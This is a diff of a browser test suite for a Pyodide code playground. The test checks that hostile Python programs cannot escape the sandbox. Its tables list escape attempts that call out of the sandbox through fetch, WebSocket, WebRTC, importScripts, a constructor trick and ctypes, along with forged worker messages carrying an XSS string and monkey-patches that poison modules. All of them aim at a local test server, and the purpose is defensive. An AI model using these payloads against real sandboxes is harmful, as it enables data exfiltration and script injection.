@@ -2,6 +2,7 @@
 // nothing had been, and nothing leaves the browser. The site's host sends no headers, and another origin listens.
 
 import assert from 'node:assert/strict';
+import { createSocket } from 'node:dgram';
 import { createServer } from 'node:http';
 import { after, before, describe, it } from 'node:test';
 import { full } from '../full.mjs';
@@ -40,49 +41,49 @@ const broken = {
 
 // Each tries to reach the other origin, ADDRESS, by a way of its own.
 const escapes = {
-  'fetch by js': 'import js\njs.fetch("ADDRESS")',
-  'XMLHttpRequest': 'import js\nx = js.XMLHttpRequest.new()\nx.open("GET", "ADDRESS")\nx.send()',
-  'WebSocket': 'import js\njs.WebSocket.new("ADDRESS".replace("http", "ws"))',
-  'EventSource': 'import js\njs.EventSource.new("ADDRESS")',
-  'importScripts': 'import js\njs.importScripts("ADDRESS")',
-  'a constructor’s constructor': 'from pyodide.ffi import to_js\nto_js({}).constructor.constructor("fetch(\'ADDRESS\')")()',
-  'import()': 'import js\njs.Function.new("import(\'ADDRESS\')")()',
-  'a font': 'import js\njs.FontFace.new("f", "url(ADDRESS)").load()',
-  'a nested worker': 'import js\nurl = js.URL.createObjectURL(js.Blob.new(["fetch(\'ADDRESS\'); importScripts(\'ADDRESS\')"]))\njs.Worker.new(url)',
-  'a script that ctypes runs': 'import ctypes\nctypes.CDLL(None).emscripten_run_script(b"fetch(\'ADDRESS\')")',
-  'WebRTC': 'import js\njs.Function.new("new RTCPeerConnection({iceServers:[{urls:\'stun:HOST\'}]}).createDataChannel(\'x\')")()',
-  'WebTransport': 'import js\njs.Function.new("new WebTransport(\'https://HOST/\')")()',
-  'a beacon': 'import js\njs.navigator.sendBeacon("ADDRESS", "x")',
-  'a Pyodide package': 'import pyodide_js\npyodide_js.loadPackage("ADDRESS")',
-  'urllib': 'import urllib.request\nurllib.request.urlopen("ADDRESS")',
-  'storage of the page': 'import js\njs.Function.new("indexedDB.open(\'interleave\'); caches.open(\'x\')")()',
+  'fetch by js': 'print("began")\nimport js\njs.fetch("ADDRESS")',
+  'XMLHttpRequest': 'print("began")\nimport js\nx = js.XMLHttpRequest.new()\nx.open("GET", "ADDRESS")\nx.send()',
+  'WebSocket': 'print("began")\nimport js\njs.WebSocket.new("ADDRESS".replace("http", "ws"))',
+  'EventSource': 'print("began")\nimport js\njs.EventSource.new("ADDRESS")',
+  'importScripts': 'print("began")\nimport js\njs.importScripts("ADDRESS")',
+  'a constructor’s constructor': 'print("began")\nfrom pyodide.ffi import to_js\nto_js({}).constructor.constructor("fetch(\'ADDRESS\')")()',
+  'import()': 'print("began")\nimport js\njs.Function.new("import(\'ADDRESS\')")()',
+  'a font': 'print("began")\nimport js\njs.FontFace.new("f", "url(ADDRESS)").load()',
+  'a nested worker': 'print("began")\nimport js\nurl = js.URL.createObjectURL(js.Blob.new(["fetch(\'ADDRESS\'); importScripts(\'ADDRESS\')"]))\njs.Worker.new(url)',
+  'a script that ctypes runs': 'print("began")\nimport ctypes\nctypes.CDLL(None).emscripten_run_script(b"fetch(\'ADDRESS\')")',
+  'WebRTC': 'print("began")\nimport js\njs.Function.new("new RTCPeerConnection({iceServers:[{urls:\'stun:HOST\'}]}).createDataChannel(\'x\')")()',
+  'WebTransport': 'print("began")\nimport js\njs.Function.new("new WebTransport(\'https://HOST/\')")()',
+  'a beacon': 'print("began")\nimport js\njs.navigator.sendBeacon("ADDRESS", "x")',
+  'a Pyodide package': 'print("began")\nimport pyodide_js\npyodide_js.loadPackage("ADDRESS")',
+  'urllib': 'print("began")\nimport urllib.request\nurllib.request.urlopen("ADDRESS")',
+  'storage of the page': 'print("began")\nimport js\njs.Function.new("indexedDB.open(\'interleave\'); caches.open(\'x\')")()',
 };
 
 // Each says things in the worker's name that the worker never would.
-const lies = {  // after 'import js'
-
-  'an answer of another shape': 'import js\njs.Function.new("for (let id = 0; id < 50; ++id) port.postMessage({ id, done: 7 })")()',
-  'events that are no bytes': 'import js\njs.Function.new("for (let id = 0; id < 50; ++id) port.postMessage({ id, texts: \'x\', events: [1] })")()',
-  'events that break the rules': 'import js\njs.Function.new("for (let id = 0; id < 50; ++id) port.postMessage({ id, texts: new Uint8Array(0), events: new Uint8Array(96).fill(255) })")()',
-  'a constructor in a message': 'import js\njs.Function.new("for (let id = 0; id < 50; ++id) port.postMessage({ id, done: { ending: \'finished\', error: { type: \'<img src=x onerror=alert(1)>\', message: {} } } })")()',
-  'nothing at all': 'import js\njs.Function.new("port.postMessage(null); port.postMessage(undefined)")()',
-  'a flood': 'import js\njs.Function.new("for (let i = 0; i < 20000; ++i) port.postMessage({ id: -1, x: i })")()',
-  'the end of its worker': 'import js\njs.Function.new("close()")()',
+const lies = {
+  'an answer of another shape': 'print("began")\nimport js\njs.Function.new("for (let id = 0; id < 50; ++id) port.postMessage({ id, done: 7 })")()',
+  'events that are no bytes': 'print("began")\nimport js\njs.Function.new("for (let id = 0; id < 50; ++id) port.postMessage({ id, texts: \'x\', events: [1] })")()',
+  'events that break the rules': 'print("began")\nimport js\njs.Function.new("for (let id = 0; id < 50; ++id) port.postMessage({ id, texts: new Uint8Array(0), events: new Uint8Array(96).fill(255) })")()',
+  'a constructor in a message': 'print("began")\nimport js\njs.Function.new("for (let id = 0; id < 50; ++id) port.postMessage({ id, done: { ending: \'finished\', error: { type: \'<img src=x onerror=alert(1)>\', message: {} } } })")()',
+  'nothing at all': 'print("began")\nimport js\njs.Function.new("port.postMessage(null); port.postMessage(undefined)")()',
+  'a flood': 'print("began")\nimport js\njs.Function.new("for (let i = 0; i < 20000; ++i) port.postMessage({ id: -1, x: i })")()',
+  'the end of its worker': 'print("began")\nimport js\njs.Function.new("close()")()',
 };
 
 // Each changes what the next program would find.
 const poison = {
-  'asyncio.sleep': 'import asyncio\nasyncio.sleep = None',
-  'print': 'import builtins\nbuiltins.print = lambda *a: None',
-  'a method of a queue': 'import asyncio\nasyncio.Queue.get_nowait = None',
-  'json': 'import json\njson.dumps = json.loads = None',
-  'the tracer itself': 'import interleave.recorder as r\nr.Recorder.emit = None',
+  'asyncio.sleep': 'print("began")\nimport asyncio\nasyncio.sleep = None',
+  'print': 'print("began")\nimport builtins\nbuiltins.print = lambda *a: None',
+  'a method of a queue': 'print("began")\nimport asyncio\nasyncio.Queue.get_nowait = None',
+  'json': 'print("began")\nimport json\njson.dumps = json.loads = None',
+  'the tracer itself': 'print("began")\nimport interleave.recorder as r\nr.Recorder.emit = None',
 };
 
 describe('a program that means harm', () => {
   const { visit } = useChromium();
   const heard = [];
   let elsewhere;
+  let datagrams;
   before(async () => {
     elsewhere = createServer((request, response) => {
       heard.push(request.url);
@@ -94,8 +95,21 @@ describe('a program that means harm', () => {
       socket.destroy();
     });
     await new Promise((listening) => elsewhere.listen(0, '127.0.0.1', listening));
+    datagrams = createSocket('udp4', () => heard.push('a datagram'));
+    await new Promise((listening) => datagrams.bind(elsewhere.address().port, '127.0.0.1', listening));
   });
-  after(() => elsewhere.close());
+  after(() => {
+    elsewhere.close();
+    datagrams.close();
+  });
+  const address = () => `http://127.0.0.1:${elsewhere.address().port}/x`;
+
+  /// The program's first line, which prints its name, has run, or the page has said what came of it: Run clears that.
+  const began = (page, name) => eventually(async () => {
+    await page.locator('#canvas').focus();
+    await page.keyboard.press('End');
+    return (await says(page)) !== '' || (await lines(page)).includes(name);
+  }, true, name);
 
   const start = async (page, source) => {
     await write(page, source);
@@ -118,8 +132,7 @@ describe('a program that means harm', () => {
     await page.locator('.bench-text .cm-content').waitFor();
     for (const [name, value] of Object.entries(programs).filter((_program, i) => full || i % 3 === 0)) {  // the usual run takes a third
       const source = Array.isArray(value) ? value[0] : value;
-      const { port } = elsewhere.address();
-      await start(page, source.replaceAll('ADDRESS', `http://127.0.0.1:${port}/x`).replaceAll('HOST', `127.0.0.1:${port}`));
+      await start(page, source.replaceAll('began', name).replaceAll('ADDRESS', address()).replaceAll('HOST', new URL(address()).host));
       await check(page, name, value);
     }
     await goesOn(page);
@@ -129,7 +142,7 @@ describe('a program that means harm', () => {
     await eventually(() => says(page), (text) => text.startsWith('Stopped:'), name);
     await page.locator('#canvas').focus();
     await page.keyboard.press('End');
-    await eventually(() => lines(page), ['began'], name);
+    await eventually(() => lines(page), [name], name);
   });
 
   group('that takes all it can get is stopped', greedy, async (page, name, [, pattern]) => {
@@ -137,21 +150,38 @@ describe('a program that means harm', () => {
   });
 
   group('that breaks Python, or never looks up, is ended from outside, and the spare takes over', broken, async (page, name) => {
-    await eventually(() => says(page), (text) => text !== '' && !/^(Starting|Loading)/.test(text), name);
+    await eventually(() => says(page), (text) => text !== '', name);
   });
 
   group('that tries to reach another place reaches nothing', escapes, async (page, name) => {
-    await eventually(() => state(page), ({ lesson }) => lesson === 'playground', name);
+    await began(page, name);
     await page.waitForTimeout(200);  // for what it set going
     assert.deepEqual(heard, [], name);
   });
 
+  it('would reach that place by those ways, were it not for the policy', visit({ ...quick, at: '#tasks' }, async (page) => {
+    await page.goto(address());
+    await page.evaluate((url) => {
+      const code = `fetch('${url}?fetch'); const x = new XMLHttpRequest(); x.open('GET', '${url}?xhr'); x.send();
+        new WebSocket('${url}?socket'.replace('http', 'ws')); new EventSource('${url}?events');
+        new FontFace('f', 'url(${url}?font)').load().catch(() => {}); try { importScripts('${url}?script'); } catch {}
+        import('${url}?import').catch(() => {});`;
+      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(url).host}` }] });
+      connection.createDataChannel('x');
+      connection.createOffer().then((offer) => connection.setLocalDescription(offer));
+      return new Worker(URL.createObjectURL(new Blob([code]))) && undefined;
+    }, address());
+    const ways = ['/x?events', '/x?fetch', '/x?font', '/x?import', '/x?script', '/x?socket', '/x?xhr', 'a datagram'];
+    await eventually(() => [...new Set(heard)].filter((each) => ways.includes(each)).sort(), ways);
+    heard.length = 0;
+  }));
+
   group('that lies in its worker’s name is not believed', lies, async (page, name) => {
-    await eventually(() => says(page), (text) => !/^(Starting|Loading)/.test(text), name);
+    await began(page, name);
     assert.equal(await page.locator('.bench-says *').count(), 0, name);
   });
 
   group('that changes modules changes none for the next', poison, async (page, name) => {
-    await eventually(() => says(page), (text) => !/^(Starting|Loading)/.test(text), name);
+    await began(page, name);
   });
 });
